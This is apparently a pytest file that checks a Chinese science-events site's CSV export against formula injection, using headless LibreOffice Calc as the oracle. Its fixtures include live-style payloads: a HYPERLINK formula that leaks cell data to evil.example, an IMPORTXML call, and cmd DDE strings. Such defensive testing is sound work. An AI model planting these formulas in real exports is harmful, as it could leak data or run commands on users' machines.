"""CSV formula injection: /data/events.csv opens in a spreadsheet without running anything.

A cell that starts with = + - @ tab or CR is a formula to Excel, WPS or LibreOffice (OWASP
"CSV Injection"); the site writes such text with a leading ' and keeps numbers as numbers.
The oracle for what a spreadsheet makes of the file is LibreOffice Calc itself (headless),
read back with openpyxl; the csv module checks the OWASP rule on every cell as well.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from test_hostile import append_registry, event

from conftest import SAMPLE_BUILD_DATE, require, run_build
from kepu.formats import csvsafe
from kepu.formats.csvsafe import cell
from kepu.formats.opendata import CSV_COLUMNS, NUMERIC_CSV_COLUMNS, csv_document, csv_row
from kepu_pelican import generators
from kepu_pelican.engine.keys import code_digest

# The OWASP rule, stated here independently of the code under test: no text cell may begin
# with one of these (nor, since importers may trim spaces, after leading whitespace).
OWASP_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LABEL = dict(CSV_COLUMNS)
TEXT_LABELS = [label for key, label in CSV_COLUMNS if key not in NUMERIC_CSV_COLUMNS]
NUMERIC_LABELS = [label for key, label in CSV_COLUMNS if key in NUMERIC_CSV_COLUMNS]
SOFFICE = shutil.which("soffice")
PLAIN_IMPORT = "CSV:44,34,76"  # comma, double quote, UTF-8: how the file is opened by default
TRIMMING_IMPORT = "CSV:44,34,76,1,1/1,2052,false,false,false,false,true"  # "Trim spaces" ticked


# -- the function ----------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击领奖\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 科普", "\r=1+1 科普", "=", "+", "-", "@", "\t", "\r",
    "-5人", "-3", "+86 022-2560 0000", "@科普小助手",
])
def test_text_starting_a_formula_gets_a_leading_quote(text: str) -> None:
    assert cell(text) == "'" + text
    assert cell(text, numeric=True) == "'" + text  # text is text, in a numeric column too


@pytest.mark.parametrize("text", [" =1+1", "  +1+1", "\u3000=1+1", "\n-2+3", " \t@SUM(1)"])
def test_leading_whitespace_does_not_hide_a_formula(text: str) -> None:
    # OWASP looks at the first character only, and Excel trims nothing; but LibreOffice's
    # "Trim spaces" import option does (see test_trimming_import_would_run_a_spaced_formula).
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", [
    "", "科普讲座", "＝1+1（全角等号）", "＋86 全角加号", "－5人（全角减号）", "＠科普", "1-2月",
    "a=b", "0-3岁", "'=已加引号", "免费", "https://example.cn/?a=1", " 科普 ",
])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", [-3, -12.5, 0, 45, 0.0, -0.5, 10_000_000, 39.0513, -117.647])
def test_numbers_in_a_numeric_column_stay_numbers(number: int | float) -> None:
    assert cell(number, numeric=True) is number


@pytest.mark.parametrize("value, shown", [
    (-3, "'-3"), (-12.5, "'-12.5"), (45, "45"),  # a number in a text column is text
    (True, "True"), (float("nan"), "nan"), (float("-inf"), "'-inf"), (None, ""),
])
def test_anything_else_is_text(value: object, shown: str) -> None:
    assert cell(value) == shown
    if value is None or isinstance(value, bool) or (isinstance(value, float) and not math.isfinite(value)):
        assert cell(value, numeric=True) == shown  # not a number a spreadsheet could show


def test_a_row_is_defused_column_by_column() -> None:
    values = {key: -3 if key in NUMERIC_CSV_COLUMNS else f"-{key}" for key, _ in CSV_COLUMNS}
    row = csv_row(values)
    for (key, _), written in zip(CSV_COLUMNS, row, strict=True):
        assert written == (values[key] if key in NUMERIC_CSV_COLUMNS else "'" + values[key]), key
    with pytest.raises(ValueError):
        csv_row({key: value for key, value in values.items() if key != "free"})  # a row must fill every column
    with pytest.raises(ValueError):
        csv_row({**values, "transport": ""})  # and only the columns there are


def test_quoted_cells_round_trip_in_a_utf8_crlf_file_with_bom() -> None:
    hostile = "=IMPORTXML(\"http://evil.example\", \"//a\")，含,逗号\"引号\"\n第二行"
    values = {key: hostile if key == "title" else "" for key, _ in CSV_COLUMNS} | {"attendance": -12.5}
    line = io.StringIO()
    csv.writer(line, lineterminator="\r\n").writerow(csv_row(values))
    data = csv_document([[("2026-12-12\t09:00\tx", line.getvalue())]])
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 2  # header and one record; the line break inside stays "\n"
    header, row = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert header == [label for _, label in CSV_COLUMNS]
    assert row[header.index(LABEL["title"])] == "'" + hostile
    assert row[header.index(LABEL["attendance"])] == "-12.5"


def test_a_change_to_the_csv_code_invalidates_cached_csv_lines(tmp_path: Path) -> None:
    """Cached CSV lines are keyed by fingerprints made with code_digest over plugins/: lines
    cached by an older opendata.py or csvsafe.py are never reused by a newer one."""
    plugins = Path(generators.__file__).resolve().parents[1]  # what the engine's code digest covers
    assert Path(csvsafe.__file__).resolve().parents[2] == plugins
    copy = tmp_path / "plugins"
    shutil.copytree(plugins, copy, ignore=shutil.ignore_patterns("__pycache__"))
    before = code_digest(copy)
    for name in ("csvsafe.py", "opendata.py"):
        path = copy / "kepu" / "formats" / name
        original = path.read_bytes()
        path.write_bytes(original + b"\n# changed\n")
        assert code_digest(copy) != before, name
        path.write_bytes(original)
    assert code_digest(copy) == before


# -- what a spreadsheet makes of it: LibreOffice Calc ---------------------------------------

def open_in_calc(files: list[Path], folder: Path, infilter: str = PLAIN_IMPORT) -> dict[str, object]:
    """Each CSV converted to xlsx by LibreOffice, as openpyxl worksheets by file stem."""
    require(SOFFICE is not None, "LibreOffice Calc (make test installs libreoffice-calc-nogui)")
    from openpyxl import load_workbook

    out = folder / "xlsx"
    profile = folder / "lo-profile"  # its own profile: parallel runs never share a lock
    result = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
         "--convert-to", "xlsx", f"--infilter={infilter}", "--outdir", str(out), *map(str, files)],
        capture_output=True, text=True, timeout=180)
    sheets = {}
    for path in files:
        xlsx = out / f"{path.stem}.xlsx"
        assert xlsx.is_file(), (result.stdout, result.stderr)
        sheets[path.stem] = load_workbook(xlsx).active
    return sheets


def write_control(path: Path, *cells: str) -> Path:
    """A CSV written without any defusing: what the oracle must flag."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([["对照"], *[[c] for c in cells]])
    path.write_bytes("\ufeff".encode() + buffer.getvalue().encode("utf-8"))
    return path


def header_and_rows(sheet) -> tuple[list[str], list[list]]:
    rows = list(sheet.iter_rows())
    for row in rows:
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)  # nothing is a formula
    return [c.value for c in rows[0]], rows[1:]


HOSTILE_TEXTS = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击领奖\")", "+cmd|' /C calc'!A0 科普活动室",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 制表符", "\r=1+1 回车",
    " =1+1 空格", "-5人", "-", "=1+1，含,逗号\"引号\"\n第二行",
]


def test_calc_shows_defused_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    lines = []
    for number, text in enumerate(HOSTILE_TEXTS):
        values = {key: [-3, -12.5][number % 2] if key in NUMERIC_CSV_COLUMNS else text for key, _ in CSV_COLUMNS}
        line = io.StringIO()
        csv.writer(line, lineterminator="\r\n").writerow(csv_row(values))
        lines.append((f"{number:03d}", line.getvalue()))
    events = tmp_path / "events.csv"
    events.write_bytes(csv_document([lines]))
    control = write_control(tmp_path / "control.csv", "=1+1", " =1+1")
    for infilter in (PLAIN_IMPORT, TRIMMING_IMPORT):
        sheets = open_in_calc([events, control], tmp_path / infilter.replace(",", "_").replace("/", "-"),
                              infilter)
        # The oracle can see a formula: "=1+1" always is one, " =1+1" once spaces are trimmed.
        assert sheets["control"]["A2"].data_type == "f"
        assert (sheets["control"]["A3"].data_type == "f") == (infilter == TRIMMING_IMPORT)
        header, rows = header_and_rows(sheets["events"])
        assert header == [label for _, label in CSV_COLUMNS]
        assert len(rows) == len(HOSTILE_TEXTS)
        for number, (text, row) in enumerate(zip(HOSTILE_TEXTS, rows, strict=True)):
            for label, c in zip(header, row, strict=True):
                if label in NUMERIC_LABELS:
                    assert c.data_type == "n" and c.value == [-3, -12.5][number % 2], (label, c.value)
                else:
                    shown = "'" + text.replace("\r", "\n")  # Calc keeps a CR as a line break
                    assert c.data_type == "s" and c.value == shown, (label, c.value)


def test_trimming_import_would_run_a_spaced_formula(tmp_path: Path) -> None:
    """Why leading whitespace counts: with "Trim spaces" Calc runs " =1+1" as a formula."""
    control = write_control(tmp_path / "spaced.csv", " =1+1", "  =2+2", cell(" =1+1"))
    sheet = open_in_calc([control], tmp_path, TRIMMING_IMPORT)["spaced"]
    assert [sheet[f"A{n}"].data_type for n in (2, 3, 4)] == ["f", "f", "s"]
    assert sheet["A4"].value == "' =1+1"


# -- the site's own /data/events.csv ---------------------------------------------------------

HOSTILE = {
    "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击领取科普奖品\")",
    "venue": "+cmd|' /C calc'!A0 科普活动室",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0 新北街道，含,逗号\"引号\"",  # one line: an address has no break
    "community": "-2+3+cmd|' /C calc'!A0 金江社区\n第二行",
    "cost": "-5人起，材料费 10 元",
    "phone": "+86 22 2560 0000",
    "team": "=SUM(1,2)科普志愿服务队",
    "categories": "@SUM(A1)科学实验",
    "audiences": "+亲子家庭",
}
FULL_WIDTH_TITLE = "＝全角等号开头的科普活动"


@pytest.mark.build
def test_published_csv_is_safe_in_a_spreadsheet(mini_site: Path, tmp_path: Path) -> None:
    content = mini_site / "content"
    append_registry("teams.yml", f"- id: evil-team\n  name: {json.dumps(HOSTILE['team'], ensure_ascii=False)}\n"
                    "  street: xinbei\n")(content)
    append_registry("categories.yml", f"- id: evil-category\n  name: "
                    f"{json.dumps(HOSTILE['categories'], ensure_ascii=False)}\n")(content)
    append_registry("audiences.yml", f"- id: evil-audience\n  name: "
                    f"{json.dumps(HOSTILE['audiences'], ensure_ascii=False)}\n")(content)
    folder = content / "events" / "xinbei" / "2026"
    (folder / "gongshi-zhuru.md").write_text(event(
        HOSTILE["title"], start="2026-11-20 09:00", team="evil-team", categories=["evil-category"],
        audiences=["evil-audience"], venue={"name": HOSTILE["venue"], "address": HOSTILE["address"]},
        community=HOSTILE["community"], cost=HOSTILE["cost"], attendance=45,
        registration={"required": True, "phone": HOSTILE["phone"]}), "utf-8")
    (folder / "quanjiao-dengyu.md").write_text(event(FULL_WIDTH_TITLE), "utf-8")
    output = tmp_path / "output"
    result = run_build(content, output, build_date=SAMPLE_BUILD_DATE)
    assert result.returncode == 0, result.stderr

    path = output / "data" / "events.csv"
    control = write_control(tmp_path / "control.csv", HOSTILE["title"])
    sheets = open_in_calc([path, control], tmp_path)  # first: what a spreadsheet makes of it
    assert sheets["control"]["A2"].data_type == "f"  # undefused, Calc would run it
    labels, cells = header_and_rows(sheets["events"])  # and nothing of ours is a formula
    by_slug = {row[labels.index(LABEL["event_id"])].value: row for row in cells}
    opened = dict(zip(labels, by_slug["gongshi-zhuru"], strict=True))
    for key, text in HOSTILE.items():
        assert opened[LABEL[key]].data_type == "s" and opened[LABEL[key]].value == "'" + text, key
    assert opened[LABEL["attendance"]].data_type == "n" and opened[LABEL["attendance"]].value == 45
    opened = dict(zip(labels, by_slug["quanjiao-dengyu"], strict=True))
    assert opened[LABEL["title"]].value == FULL_WIDTH_TITLE

    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    header, *records = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert header == labels
    assert data.count(b"\r\n") == 1 + len(records)  # CRLF ends every record; "\n" stays inside
    rows = [dict(zip(header, record, strict=True)) for record in records]
    for row in rows:  # the OWASP rule, on every cell the site wrote
        for label in TEXT_LABELS:
            assert not row[label].lstrip().startswith(OWASP_FORMULA_START), (label, row[label])
            assert not row[label].startswith(OWASP_FORMULA_START), (label, row[label])
        for label in NUMERIC_LABELS:
            assert re.fullmatch(r"(-?[0-9]+(\.[0-9]+)?)?", row[label]), (label, row[label])
    hostile = next(r for r in rows if r[LABEL["event_id"]] == "gongshi-zhuru")
    for key, text in HOSTILE.items():
        assert hostile[LABEL[key]] == "'" + text, key  # the text itself, after the quote
    assert hostile[LABEL["attendance"]] == "45"
    full_width = next(r for r in rows if r[LABEL["event_id"]] == "quanjiao-dengyu")
    assert full_width[LABEL["title"]] == FULL_WIDTH_TITLE


PHONES_AS_TYPED = {"02225300000": "022-2530 0000", "031187654321": "0311-8765 4321", "13812345678": "138 1234 5678",
                   "4008001234": "400-800-1234", "022-6530 0000": "022-6530 0000", "0222530000 转 8": "0222530000 转 8"}


def test_a_phone_typed_as_digits_keeps_its_leading_zero_in_a_spreadsheet(tmp_path: Path, mini_site: Path) -> None:
    """front-matter.md shows phone: "02225300000"; written as it was typed, Calc (like Excel and
    WPS) read 2225300000, a number. The CSV writes bare digits grouped as they are read aloud."""
    from test_site_index import index_for

    from kepu.formats.opendata import csv_lines
    from kepu.formats.phones import grouped

    assert {typed: grouped(typed) for typed in PHONES_AS_TYPED} == PHONES_AS_TYPED
    path = mini_site / "content" / "events" / "xinbei" / "2026" / "zhoumo-tongxuehui.md"
    text = path.read_text("utf-8")
    path.write_text(text.replace("audiences: [qinzi]\n",
                                 'audiences: [qinzi]\nregistration:\n  required: true\n  phone: "02225300000"\n'), "utf-8")
    index = index_for(date.fromisoformat(SAMPLE_BUILD_DATE), mini_site)
    entry = next(e for e in index.entries if e.event.slug == "zhoumo-tongxuehui")
    events = tmp_path / "events.csv"
    events.write_bytes(csv_document([csv_lines(entry, index, "https://kepu.example.cn")]))
    header, rows = header_and_rows(open_in_calc([events], tmp_path)["events"])
    phones = {c.value for row in rows for label, c in zip(header, row, strict=True) if label == "报名电话"}
    assert phones == {"022-2530 0000"}
